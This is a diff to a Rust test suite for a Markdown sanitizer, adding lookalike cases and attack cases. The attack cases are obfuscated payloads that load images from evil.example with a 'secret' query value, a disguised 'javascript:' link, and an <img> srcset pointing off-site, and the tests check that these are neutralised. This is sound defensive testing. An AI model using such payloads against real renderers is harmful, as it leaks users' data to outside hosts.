@@ -35,6 +35,8 @@ fn lookalikes_are_unchanged() {
         "[search](https://example.com/search?q=rust) [results](https://example.com/r?id=12345&v=dQw4w9WgXcQ)",
         "[relative](docs/setup.md) [anchor](#install) [root](/about) ![diagram](img/arch.png)",
         "[mail](mailto:team@example.com) <team@example.com>",
+        // `&` in destinations that no browser decodes into anything else.
+        "[search](https://example.com/s?q=rust&copy=2&notify=yes&lang=en) ![logo](img/a&b.png)",
         "<https://docs.example.com/guide> and <https://example.com/a?page=3>",
         "[guide][g] and [other]\n\n[g]: https://docs.example.com/guide\n[other]: https://example.com/",
         "[data](https://trusted.example/callback?token=abcdef&chat=this%20is%20fine) ![x](https://cdn.trusted.example/a.png)",
@@ -346,6 +348,24 @@ fn attacks_are_neutralized() {
             &["\\[image: chart\\] and \\[image: chart\\]"],
             &["![", "b>c"],
             &[Code::DangerousUrlScheme],
+        ),
+        // Character references without their `;`: text for `CommonMark`, a scheme or a
+        // host for a browser reading what a renderer that leaves `&` unescaped (marked)
+        // wrote (found by a hostile review).
+        (
+            "![chart](&#104ttps://evil.example/p.png?d=secret) and [doc](&#106avascript:alert(1)) and ![b][r]\n\n[r]: &#47/evil.example/r.png",
+            &["image: chart (evil.example)", "image: b (evil.example)"],
+            &["](&#", "![b]"],
+            &[Code::ExternalImage, Code::DangerousUrlScheme],
+        ),
+        // An inline `<img>` whose `src` stays home but whose `srcset` (which a browser
+        // prefers) loads from elsewhere, in text a lenient reader takes for HTML (found by
+        // a hostile review).
+        (
+            "x <img src=\"a.png\" srcset=\"a.png 1x, https://evil.example/x.png 2x\" 1a> y",
+            &["image (evil.example)"],
+            &["srcset", "evil.example/x.png"],
+            &[Code::ExternalImage],
         ),
     ];
     for (input, includes, excludes, codes) in cases {
